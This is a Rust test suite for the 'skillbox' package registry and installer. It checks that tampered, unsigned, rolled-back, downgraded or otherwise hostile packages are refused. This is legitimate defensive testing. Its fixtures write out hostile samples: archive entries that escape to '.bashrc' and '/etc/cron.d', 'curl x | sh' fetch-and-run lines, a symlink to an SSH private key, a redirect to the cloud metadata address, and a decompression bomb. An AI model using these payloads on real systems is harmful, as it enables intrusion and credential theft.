//! Hostile registries and packages. Each case is served over real HTTP on
//! 127.0.0.1 and installed the way `skillbox skill install` does (fetch,
//! check, then write), and must be refused with a clear error, leaving
//! nothing behind: no store entry, no lockfile, the agent file unchanged.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use skillbox::market::MarketError;
use skillbox::market::client::RegistryClient;
use skillbox::market::install::{self, Allowed, Plan, Source};
use skillbox::market::lock::Lockfile;
use skillbox::market::package::{MAX_COMPONENT, Package, sha256_hex};
use skillbox::market::registry::{self, Index, Listing, SignedIndex};
use skillbox::market::signing::{KeyPair, PublicKey};
use skillbox::{AgentId, ConfigDir, Egress, HostConfig};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_owned()
}

fn text() -> Package {
    Package::from_dir(&repo().join("skills/text")).unwrap()
}

/// A registry directory holding `text` 0.1.0 by `acme`, served on
/// 127.0.0.1 while the value lives.
struct Registry {
    dir: tempfile::TempDir,
    acme: KeyPair,
    url: url::Url,
    _server: tokio::task::JoinHandle<()>,
}

impl Registry {
    async fn new() -> Registry {
        let dir = tempfile::tempdir().unwrap();
        let acme = KeyPair::generate("acme").unwrap();
        registry::publish(dir.path(), &text().pack().unwrap(), &acme).unwrap();
        let app = skillbox::market::serve::router(dir.path().to_owned());
        Registry::serving(dir, acme, app).await
    }

    async fn serving(dir: tempfile::TempDir, acme: KeyPair, app: axum::Router) -> Registry {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}/", listener.local_addr().unwrap())
            .parse()
            .unwrap();
        let server = tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        Registry {
            dir,
            acme,
            url,
            _server: server,
        }
    }

    fn trusted(&self) -> Vec<PublicKey> {
        vec![self.acme.public().unwrap()]
    }

    fn index_path(&self) -> PathBuf {
        self.dir.path().join("index/text.json")
    }

    /// The index of `text`, as stored.
    fn index(&self) -> SignedIndex {
        serde_json::from_slice(&std::fs::read(self.index_path()).unwrap()).unwrap()
    }

    /// Change the index of `text` and sign it again with `key`.
    fn sign_index(&self, key: &KeyPair, change: impl FnOnce(&mut Index)) {
        let mut index: Index = serde_json::from_value(self.index().signed).unwrap();
        change(&mut index);
        let signed = SignedIndex::sign(&index, key).unwrap();
        std::fs::write(self.index_path(), serde_json::to_vec(&signed).unwrap()).unwrap();
    }

    /// Change the index entry of `text` 0.1.0, signed again by acme: what
    /// lies below the index is checked on its own.
    fn edit(&self, change: impl FnOnce(&mut registry::Release)) {
        self.sign_index(&self.acme, |index| change(&mut index.versions[0]));
    }

    /// Put `bytes` in place of the package, with the index's hash updated
    /// to match (the registry itself is hostile) and the signature kept.
    fn replace_package(&self, bytes: &[u8]) {
        std::fs::write(self.dir.path().join("packages/text-0.1.0.skill"), bytes).unwrap();
        let sha256 = sha256_hex(bytes);
        self.edit(|release| release.sha256 = sha256);
    }
}

/// A configuration directory with the agent `ops`.
fn config() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("agents")).unwrap();
    std::fs::write(dir.path().join("agents/ops.toml"), "id = \"ops\"\n").unwrap();
    dir
}

/// Plan installing the newest `text` from `registry`, trusting `trusted`,
/// for `agent` of `host`, as the CLI does.
async fn plan(
    registry: &Registry,
    trusted: &[PublicKey],
    host: &HostConfig,
    agent: &str,
    allowed: Allowed,
) -> Result<Plan, MarketError> {
    let source = Source {
        url: registry.url.clone(),
        client: RegistryClient::new(&Egress::new(BTreeMap::new()), &registry.url)?,
        trusted: trusted.to_vec(),
        allowed,
        defaults: host.defaults,
    };
    let agent = AgentId::new(agent).unwrap();
    let star = semver::VersionReq::STAR;
    install::plan_install(host, &source, &agent, "text", &star).await
}

/// Install `text` from `registry`, trusting `trusted`, for agent `ops` of
/// `host` as the CLI does: plan, then commit.
async fn install(
    registry: &Registry,
    trusted: &[PublicKey],
    host: &HostConfig,
) -> Result<Plan, MarketError> {
    let plan = plan(registry, trusted, host, "ops", Allowed::default()).await?;
    let db = skillbox::Db::in_data_dir(&host.data_dir).unwrap();
    install::commit(&plan, &host.dir, &host.data_dir, &db, "a test").await?;
    Ok(plan)
}

/// Install `text` from `registry` into a fresh configuration as the CLI
/// does; the error, after checking that nothing was left behind.
async fn refused(registry: &Registry, trusted: &[PublicKey]) -> String {
    let config = config();
    let host = ConfigDir::load(config.path()).unwrap().host;
    let installed = install(registry, trusted, &host).await;
    let error = format!(
        "{:#}",
        installed.err().expect("the install must be refused")
    );
    assert!(
        !host.data_dir.join("store").exists(),
        "{error}: a store entry was left"
    );
    assert!(
        !config.path().join("skillbox.lock").exists(),
        "{error}: a lockfile was left"
    );
    assert_eq!(
        std::fs::read_to_string(config.path().join("agents/ops.toml")).unwrap(),
        "id = \"ops\"\n",
        "{error}: the agent file changed"
    );
    error
}

#[tokio::test]
async fn a_good_package_installs() {
    let registry = Registry::new().await;
    let config = config();
    let host = ConfigDir::load(config.path()).unwrap().host;
    let fetched = install(&registry, &registry.trusted(), &host)
        .await
        .unwrap()
        .fetched;
    assert!(
        host.data_dir
            .join("store")
            .join(&fetched.release.sha256)
            .join("text.wasm")
            .exists()
    );
}

#[tokio::test]
async fn a_package_whose_hash_differs_from_the_index() {
    let registry = Registry::new().await;
    registry.edit(|release| release.sha256 = "0".repeat(64));
    let error = refused(&registry, &registry.trusted()).await;
    assert!(error.contains("sha256"), "{error}");
}

#[tokio::test]
async fn a_signature_that_is_not_the_packages() {
    let registry = Registry::new().await;
    let mut other = text();
    other.component.push(0);
    let signature = registry.acme.sign(&other).unwrap();
    registry.edit(|release| release.signature = signature);
    let error = refused(&registry, &registry.trusted()).await;
    assert!(error.contains("signature does not match"), "{error}");
}

#[tokio::test]
async fn a_signature_by_an_untrusted_key() {
    let registry = Registry::new().await;
    let mallory = KeyPair::generate("acme").unwrap();
    let signature = mallory.sign(&text()).unwrap();
    let key_id = mallory.key_id.clone();
    registry.edit(|release| {
        release.signature = signature;
        release.key_id = key_id;
    });
    let error = refused(&registry, &registry.trusted()).await;
    assert!(error.contains("does not trust"), "{error}");
    // A key the registry lists under a trusted key's id is not that key.
    let mut claimed = mallory.public().unwrap();
    claimed.key_id = registry.acme.key_id.clone();
    registry.edit(|release| release.key_id = claimed.key_id.clone());
    let error = refused(&registry, &[claimed]).await;
    assert!(error.contains("does not hash to its id"), "{error}");
}

#[tokio::test]
async fn a_manifest_changed_after_signing() {
    let registry = Registry::new().await;
    let mut changed = text();
    let manifest = String::from_utf8(changed.manifest).unwrap();
    changed.manifest =
        format!("{manifest}\n[capabilities]\nnetwork = [\"https://*\"]\n").into_bytes();
    registry.replace_package(&changed.pack().unwrap());
    let error = refused(&registry, &registry.trusted()).await;
    assert!(error.contains("signature does not match"), "{error}");
}

#[tokio::test]
async fn a_component_swapped_after_signing() {
    let registry = Registry::new().await;
    let mut swapped = text();
    swapped.component = std::fs::read(repo().join("skills/notes/notes.wasm")).unwrap();
    registry.replace_package(&swapped.pack().unwrap());
    let error = refused(&registry, &registry.trusted()).await;
    assert!(error.contains("signature does not match"), "{error}");
}

/// A tar.gz of `entries` with raw names, as an attacker writes it.
fn tarball(entries: &[(&str, tar::EntryType, &[u8])]) -> Vec<u8> {
    let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut tar = tar::Builder::new(gzip);
    for (name, kind, content) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(*kind);
        header.set_size(content.len() as u64);
        header.set_mode(0o755);
        if kind.is_symlink() {
            header.set_link_name("/home/user/.ssh/id_ed25519").unwrap();
        }
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.set_cksum();
        tar.append(&header, *content).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

#[tokio::test]
async fn a_tarball_that_escapes_or_links() {
    let registry = Registry::new().await;
    let good = text();
    let file = tar::EntryType::Regular;
    let (m, c, r) = (&good.manifest[..], &good.component[..], &b"# text"[..]);
    for (case, bytes) in [
        (
            "../",
            tarball(&[
                ("skill.toml", file, m),
                ("text.wasm", file, c),
                ("../.bashrc", file, b"curl x | sh"),
            ]),
        ),
        (
            "absolute",
            tarball(&[
                ("skill.toml", file, m),
                ("/etc/cron.d/x", file, b"* * * * * x"),
                ("text.wasm", file, c),
            ]),
        ),
        (
            "symlink",
            tarball(&[
                ("skill.toml", file, m),
                ("README.md", tar::EntryType::Symlink, b""),
                ("text.wasm", file, c),
            ]),
        ),
        (
            "hard link",
            tarball(&[
                ("skill.toml", file, m),
                ("README.md", tar::EntryType::Link, b""),
                ("text.wasm", file, c),
            ]),
        ),
        (
            "extra file",
            tarball(&[
                ("skill.toml", file, m),
                ("text.wasm", file, c),
                ("README.md", file, r),
                ("setup.sh", file, b"curl x | sh"),
            ]),
        ),
    ] {
        registry.replace_package(&bytes);
        let error = refused(&registry, &registry.trusted()).await;
        assert!(error.contains("refused"), "{case}: {error}");
    }
}

#[tokio::test]
async fn a_decompression_bomb() {
    let registry = Registry::new().await;
    // 256 MiB of zeros: a few hundred KiB compressed.
    let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut tar = tar::Builder::new(gzip);
    let mut header = tar::Header::new_gnu();
    header.set_size(256 << 20);
    header.set_mode(0o644);
    header.set_cksum();
    let zeros = std::io::Read::take(std::io::repeat(0), 256 << 20);
    tar.append_data(&mut header, "text.wasm", zeros).unwrap();
    let bytes = tar.into_inner().unwrap().finish().unwrap();
    assert!(bytes.len() < 2 << 20, "{}", bytes.len());
    registry.replace_package(&bytes);
    let error = refused(&registry, &registry.trusted()).await;
    assert!(error.contains("over its cap"), "{error}");
}

#[tokio::test]
async fn a_component_over_the_cap() {
    let registry = Registry::new().await;
    // Incompressible bytes, one past the cap: a package under the
    // download cap that unpacks to a component over its own.
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let component: Vec<u8> = (0..=MAX_COMPONENT)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        })
        .collect();
    let good = text();
    let file = tar::EntryType::Regular;
    registry.replace_package(&tarball(&[
        ("skill.toml", file, &good.manifest),
        ("text.wasm", file, &component),
        ("README.md", file, b"# text"),
    ]));
    let error = refused(&registry, &registry.trusted()).await;
    assert!(error.contains("over its cap of 33554432 bytes"), "{error}");
}

#[tokio::test]
async fn a_registry_that_redirects_elsewhere() {
    let dir = tempfile::tempdir().unwrap();
    let acme = KeyPair::generate("acme").unwrap();
    registry::publish(dir.path(), &text().pack().unwrap(), &acme).unwrap();
    // The index is served; the package redirects to another host.
    let files = skillbox::market::serve::router(dir.path().to_owned());
    let app = axum::Router::new()
        .route(
            "/packages/{name}",
            axum::routing::get(|| async {
                axum::response::Redirect::temporary("http://169.254.169.254/latest/meta-data/")
            }),
        )
        .fallback_service(files);
    let registry = Registry::serving(dir, acme, app).await;
    let error = refused(&registry, &registry.trusted()).await;
    assert!(
        error.contains("redirects to http://169.254.169.254"),
        "{error}"
    );
}

#[test]
fn a_typosquat_shows_its_publisher_beside_the_original() {
    let listing = |name: &str, publisher: &str, key_id: &str| Listing {
        name: name.into(),
        version: "1.0.0".parse().unwrap(),
        description: "Text utilities".into(),
        publisher: publisher.into(),
        key_id: key_id.into(),
    };
    let listings = vec![
        listing("text", "skillbox", "aaaa"),
        listing("txet", "mallory", "bbbb"),
        listing("texts", "mallory", "bbbb"),
        listing("notes", "skillbox", "aaaa"),
    ];
    let names = |found: Vec<&Listing>| -> Vec<String> {
        found
            .iter()
            .map(|l| format!("{} by {}", l.name, l.publisher))
            .collect()
    };
    assert_eq!(
        names(registry::lookalikes(&listings, &listings[2])),
        ["text by skillbox"]
    );
    assert_eq!(
        names(registry::lookalikes(&listings, &listings[0])),
        ["txet by mallory", "texts by mallory"]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_skill_tampered_after_install_is_quarantined_at_load() {
    let registry = Registry::new().await;
    let config = config();
    std::fs::write(
        config.path().join("skillbox.toml"),
        format!(
            "[registries.test]\nurl = \"{}\"\nkeys = [{{ key_id = \"{}\", publisher = \"acme\", public_key = \"{}\" }}]\n",
            registry.url,
            registry.acme.key_id,
            registry.acme.public().unwrap().public_key
        ),
    )
    .unwrap();
    let host = ConfigDir::load(config.path()).unwrap().host;
    let fetched = install(&registry, &registry.trusted(), &host)
        .await
        .unwrap()
        .fetched;
    let loaded = ConfigDir::load(config.path()).unwrap();
    let runtime = skillbox::Runtime::open(&loaded.host).unwrap();
    runtime
        .load_agent(&loaded.agents["ops"])
        .expect("the untouched skill loads");

    let store = host.data_dir.join("store").join(&fetched.release.sha256);
    let manifest = std::fs::read_to_string(store.join("skill.toml")).unwrap();
    std::fs::write(
        store.join("skill.toml"),
        manifest.replace("Text utilities", "Text tools"),
    )
    .unwrap();
    let error = runtime
        .load_agent(&loaded.agents["ops"])
        .err()
        .expect("a tampered skill is refused")
        .to_string();
    assert!(
        error.contains("failed its check") && error.contains("quarantine"),
        "{error}"
    );
    assert!(!store.exists());
    let audit = skillbox::audit::read(runtime.db(), "ops", None)
        .await
        .unwrap();
    assert!(
        audit.iter().any(|e| e.decision == "quarantined"),
        "{audit:?}"
    );
}

/// `text` at `version` with a manifest asking for `capabilities` (TOML),
/// more `tools` declared after its own, and `limits` (TOML).
fn text_asking(version: &str, capabilities: &str, tools: &[&str], limits: &str) -> Package {
    let mut package = text();
    let manifest = String::from_utf8(package.manifest)
        .unwrap()
        .replace("version = \"0.1.0\"", &format!("version = \"{version}\""));
    // Its own [limits] come last: replaced by these.
    let (manifest, _) = manifest.split_once("[limits]").unwrap();
    let limits = match limits {
        "" => "timeout = \"5s\"",
        more => more,
    };
    let mut manifest = format!("{manifest}[limits]\nmemory = \"32MiB\"\n{limits}\n");
    for tool in tools {
        manifest.push_str(&format!(
            "\n[[tool]]\nname = \"{tool}\"\ndescription = \"New\"\ninput_schema = {{ type = \"object\" }}\n"
        ));
    }
    let manifest = format!("{manifest}\n[capabilities]\n{capabilities}\n");
    package.manifest = manifest.into_bytes();
    package
}

/// An upgrade that may do more (a host, a tool, a longer timeout) is asked
/// about, with every one of them in what the person reads, and it keeps
/// what the operator wrote: a narrowed network grant stays narrow, the
/// mount and the secret stay granted, the tool allowlist is not widened.
#[tokio::test]
async fn an_upgrade_that_widens_asks_again_and_keeps_the_operators_narrowing() {
    let registry = Registry::new().await;
    let asks = "memory = true\n\
        network = [\"https://api.example.com\", \"https://*.example.org\"]\n\
        filesystem = [{ guest = \"/workspace\", access = \"read-write\" }]\n\
        [capabilities.secrets.API_KEY]\nhosts = [\"https://api.example.com\"]\n\
        header = \"X-Api-Key: {}\"";
    let first = text_asking("1.0.0", asks, &[], "");
    registry::publish(registry.dir.path(), &first.pack().unwrap(), &registry.acme).unwrap();
    let config = config();
    let key = registry.acme.public().unwrap();
    std::fs::write(
        config.path().join("skillbox.toml"),
        format!(
            "[registries.test]\nurl = \"{}\"\nkeys = [{{ key_id = \"{}\", publisher = \"acme\", \
             public_key = \"{}\" }}]\n",
            registry.url, key.key_id, key.public_key
        ),
    )
    .unwrap();
    let host = ConfigDir::load(config.path()).unwrap().host;
    let installed = install(&registry, &registry.trusted(), &host)
        .await
        .unwrap();
    assert_eq!(installed.fetched.release.version.to_string(), "1.0.0");

    // The operator narrows: one host of two, a mount, a secret, one tool.
    std::fs::write(config.path().join("api-key"), "k").unwrap();
    let agent_file = config.path().join("agents/ops.toml");
    std::fs::write(
        &agent_file,
        "id = \"ops\"\n[tools]\nallow = [\"text.word_count\"]\n\
         [mounts]\nws = { path = \".\", access = \"read-only\" }\n\
         [skills.text]\ninstalled = \"1.0.0\"\n\
         [skills.text.grants]\nmemory = true\nnetwork = [\"https://api.example.com\"]\n\
         filesystem = [{ mount = \"ws\", guest = \"/workspace\", access = \"read-only\" }]\n\
         secrets = { API_KEY = { file = \"api-key\" } }\n",
    )
    .unwrap();

    let wider = asks.replace(
        "\"https://*.example.org\"]",
        "\"https://*.example.org\", \"https://new.example.net\"]",
    );
    let second = text_asking("1.1.0", &wider, &["export_all"], "timeout = \"60s\"");
    registry::publish(registry.dir.path(), &second.pack().unwrap(), &registry.acme).unwrap();
    let ops = AgentId::new("ops").unwrap();
    let egress = Egress::new(BTreeMap::new());
    let star = semver::VersionReq::STAR;
    let planned = install::plan_upgrade(&host, &egress, &ops, "text", &star, Allowed::default())
        .await
        .unwrap();
    let install::Upgrade::Plan(plan) = planned else {
        panic!("1.1.0 is newer");
    };
    let (_, details) = plan
        .asks()
        .expect("an upgrade that may do more is asked about");
    let details = details.join("\n");
    for expected in [
        "new.example.net",
        "tool export_all",
        "limit timeout 1m (was 10s)",
    ] {
        assert!(details.contains(expected), "{expected} in:\n{details}");
    }
    let db = skillbox::Db::in_data_dir(&host.data_dir).unwrap();
    install::commit(&plan, &host.dir, &host.data_dir, &db, "a test")
        .await
        .unwrap();
    drop(db);

    let written = std::fs::read_to_string(&agent_file).unwrap();
    let agent: toml::Value = toml::from_str(&written).unwrap();
    let grants = &agent["skills"]["text"]["grants"];
    let network: Vec<&str> = grants["network"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(
        network,
        ["https://api.example.com", "https://new.example.net"],
        "narrowed, plus only what is new:\n{written}"
    );
    assert!(
        grants.get("filesystem").is_some(),
        "the mount stays:\n{written}"
    );
    assert!(
        grants.get("secrets").is_some(),
        "the secret stays:\n{written}"
    );
    assert_eq!(
        agent["tools"]["allow"].as_array().unwrap().len(),
        1,
        "{written}"
    );
    assert_eq!(agent["skills"]["text"]["installed"].as_str(), Some("1.1.0"));
    assert_eq!(
        agent["skills"]["text"]["limits"]["timeout"].as_str(),
        Some("1m"),
        "{written}"
    );
}

/// `skillbox.toml` trusting `keys` for `registry`, each under the
/// publisher name given.
fn trust(config: &Path, registry: &Registry, keys: &[(&KeyPair, &str)]) {
    let keys: Vec<String> = keys
        .iter()
        .map(|(key, publisher)| {
            let key = key.public().unwrap();
            format!(
                "{{ key_id = \"{}\", publisher = \"{publisher}\", public_key = \"{}\" }}",
                key.key_id, key.public_key
            )
        })
        .collect();
    let file = format!(
        "[registries.test]\nurl = \"{}\"\nkeys = [{}]\n",
        registry.url,
        keys.join(", ")
    );
    std::fs::write(config.join("skillbox.toml"), file).unwrap();
}

fn locked_version(host: &HostConfig, agent: &str) -> Option<String> {
    let lock = Lockfile::read(&host.dir).unwrap();
    lock.get(agent, "text").map(|l| l.version.to_string())
}

/// The installed version was yanked (or the index rolled back by its own
/// key): the newest the registry offers is an older one, which asks for
/// any host. Installing again must not quietly move down to it.
#[tokio::test]
async fn an_install_never_moves_below_the_locked_version_unasked() {
    let registry = Registry::new().await;
    let dir = registry.dir.path();
    let wide = text_asking("0.9.0", "network = [\"https://*\"]", &[], "");
    registry::publish(dir, &wide.pack().unwrap(), &registry.acme).unwrap();
    let narrow = text_asking("1.0.0", "", &[], "");
    registry::publish(dir, &narrow.pack().unwrap(), &registry.acme).unwrap();
    let config = config();
    trust(config.path(), &registry, &[(&registry.acme, "acme")]);
    let host = ConfigDir::load(config.path()).unwrap().host;
    install(&registry, &registry.trusted(), &host)
        .await
        .unwrap();
    assert_eq!(locked_version(&host, "ops").as_deref(), Some("1.0.0"));

    registry::yank(dir, "text", &"1.0.0".parse().unwrap(), &registry.acme).unwrap();
    let error = match install(&registry, &registry.trusted(), &host).await {
        Ok(plan) => panic!(
            "installed {} over 1.0.0 without a word",
            plan.fetched.release.version
        ),
        Err(error) => error.to_string(),
    };
    assert!(
        error.contains("refused as a downgrade") && error.contains("--allow-downgrade"),
        "{error}"
    );
    let ops = AgentId::new("ops").unwrap();
    let (egress, star) = (Egress::new(BTreeMap::new()), semver::VersionReq::STAR);
    let upgrade = install::plan_upgrade(&host, &egress, &ops, "text", &star, Allowed::default());
    let error = upgrade.await.err().expect("an upgrade refuses it too");
    assert!(
        error.to_string().contains("refused as a downgrade"),
        "{error}"
    );
    assert_eq!(locked_version(&host, "ops").as_deref(), Some("1.0.0"));

    // Allowed, it is shown as a downgrade, with what the older version may
    // do that the installed one may not, and asked about.
    let allowed = Allowed {
        downgrade: true,
        ..Allowed::default()
    };
    let plan = plan(&registry, &registry.trusted(), &host, "ops", allowed)
        .await
        .unwrap();
    let summary = plan.summary();
    let from = summary.from.as_ref().map(ToString::to_string);
    assert_eq!(from.as_deref(), Some("1.0.0"));
    assert_eq!(summary.version.to_string(), "0.9.0");
    let (what, details) = plan.asks().expect("a downgrade is asked about");
    assert_eq!(what, "downgrade text from 1.0.0 to 0.9.0 for agent ops");
    assert!(
        details.contains(&"may send HTTPS requests to any host".to_owned()),
        "{details:?}"
    );
}

/// The registry serves an older index, properly signed in its day, which
/// still offers the version its publisher has since yanked.
#[tokio::test]
async fn a_rolled_back_index_is_refused() {
    let registry = Registry::new().await;
    let dir = registry.dir.path();
    let before_the_yank = std::fs::read(registry.index_path()).unwrap();
    let fixed = text_asking("0.1.1", "", &[], "");
    registry::publish(dir, &fixed.pack().unwrap(), &registry.acme).unwrap();
    registry::yank(dir, "text", &"0.1.0".parse().unwrap(), &registry.acme).unwrap();
    let config = config();
    std::fs::write(config.path().join("agents/web.toml"), "id = \"web\"\n").unwrap();
    let host = ConfigDir::load(config.path()).unwrap().host;
    let installed = install(&registry, &registry.trusted(), &host)
        .await
        .unwrap();
    assert_eq!(installed.fetched.index_version, 3);

    std::fs::write(registry.index_path(), before_the_yank).unwrap();
    let planned = plan(
        &registry,
        &registry.trusted(),
        &host,
        "web",
        Allowed::default(),
    )
    .await;
    let error = match planned {
        Ok(plan) => panic!(
            "planned the yanked {} from the old index",
            plan.fetched.release.version
        ),
        Err(error) => error.to_string(),
    };
    assert!(
        error.contains(&format!("the index of 'text' in {}", registry.url))
            && error.contains("is version 1, older than version 3"),
        "{error}"
    );
}

/// The registry stops changing: it serves the index it last signed long
/// after, so that no yank or fix is ever seen. Its publisher keeps a live
/// registry fresh with `refresh`.
#[tokio::test]
async fn an_expired_index_is_refused_until_refreshed() {
    let registry = Registry::new().await;
    let expired = SystemTime::now() - Duration::from_secs(60);
    registry.sign_index(&registry.acme, |index| index.expires = expired);
    let error = refused(&registry, &registry.trusted()).await;
    let signed = registry.index().signed;
    let expires = signed["expires"].as_str().unwrap();
    assert!(
        error.contains(&format!("the index of 'text' in {}", registry.url))
            && error.contains(&format!("expired at {expires}")),
        "{error}"
    );

    let refreshed = registry::refresh(registry.dir.path(), "text", &registry.acme).unwrap();
    let lifetime = refreshed.expires.duration_since(SystemTime::now()).unwrap();
    let a_minute = Duration::from_secs(60);
    assert!(
        lifetime > registry::INDEX_LIFETIME - a_minute,
        "{lifetime:?}"
    );
    assert_eq!(refreshed.version, 2);
    let config = config();
    let host = ConfigDir::load(config.path()).unwrap().host;
    install(&registry, &registry.trusted(), &host)
        .await
        .unwrap();
}

/// The registry edits the index (un-yanks a version, says it asks for
/// nothing) without the publisher's key, or signs it with its own.
#[tokio::test]
async fn an_index_not_signed_by_a_trusted_key_is_refused() {
    let registry = Registry::new().await;
    let dir = registry.dir.path();
    registry::yank(dir, "text", &"0.1.0".parse().unwrap(), &registry.acme).unwrap();
    let mut index = registry.index();
    index.signed["versions"][0]["yanked"] = false.into();
    index.signed["versions"][0]["capabilities"] = serde_json::json!({});
    std::fs::write(registry.index_path(), serde_json::to_vec(&index).unwrap()).unwrap();
    let error = refused(&registry, &registry.trusted()).await;
    assert!(
        error.contains(&format!("the index of 'text' in {}", registry.url))
            && error.contains("the signature does not match the index"),
        "{error}"
    );

    let mallory = KeyPair::generate("acme").unwrap();
    registry.sign_index(&mallory, |index| index.versions[0].yanked = false);
    let error = refused(&registry, &registry.trusted()).await;
    assert!(
        error.contains(&format!("is signed by key {}", mallory.key_id))
            && error.contains("does not trust"),
        "{error}"
    );
}

/// A publisher the host trusts, as mallory, signs a release and the index
/// naming a better-known publisher. What the person reads (the review,
/// the upgrade, search) names the key's publisher, and an upgrade signed
/// by another key than the installed version's is asked about.
#[tokio::test]
async fn the_publisher_shown_is_the_one_the_host_trusts_the_key_as() {
    let registry = Registry::new().await;
    let mallory = KeyPair::generate("skillbox").unwrap();
    let config = config();
    std::fs::write(config.path().join("agents/web.toml"), "id = \"web\"\n").unwrap();
    let keys = [(&registry.acme, "acme"), (&mallory, "mallory")];
    trust(config.path(), &registry, &keys);
    let host = ConfigDir::load(config.path()).unwrap().host;
    let trusted = skillbox::market::trusted_keys(&host.registries, registry.url.as_str());
    install(&registry, &trusted, &host).await.unwrap();
    let next = text_asking("0.2.0", "", &[], "");
    registry::publish(registry.dir.path(), &next.pack().unwrap(), &mallory).unwrap();

    let review = plan(&registry, &trusted, &host, "web", Allowed::default())
        .await
        .unwrap()
        .summary();
    assert_eq!(review.publisher, "mallory", "the key's, not the index's");
    assert_eq!(review.index_says.as_deref(), Some("skillbox"));

    let ops = AgentId::new("ops").unwrap();
    let (egress, star) = (Egress::new(BTreeMap::new()), semver::VersionReq::STAR);
    let upgrade = install::plan_upgrade(&host, &egress, &ops, "text", &star, Allowed::default());
    let install::Upgrade::Plan(upgrade) = upgrade.await.unwrap() else {
        panic!("0.2.0 is newer");
    };
    assert_eq!(upgrade.summary().publisher, "mallory");
    let (_, details) = upgrade
        .asks()
        .expect("an upgrade signed by another key is asked about");
    let was = format!(
        "signed by key {} (mallory), was {} (acme)",
        mallory.key_id, registry.acme.key_id
    );
    assert!(details.contains(&was), "{details:?}");

    let client = RegistryClient::new(&egress, &registry.url).unwrap();
    let listings = client.names().await.unwrap();
    let shown = |trusted: &[PublicKey]| {
        let text = &listings[0];
        registry::publisher(&text.key_id, &text.publisher, trusted)
    };
    assert_eq!(shown(&trusted), "mallory");
    assert_eq!(shown(&[]), "skillbox, unverified");
}
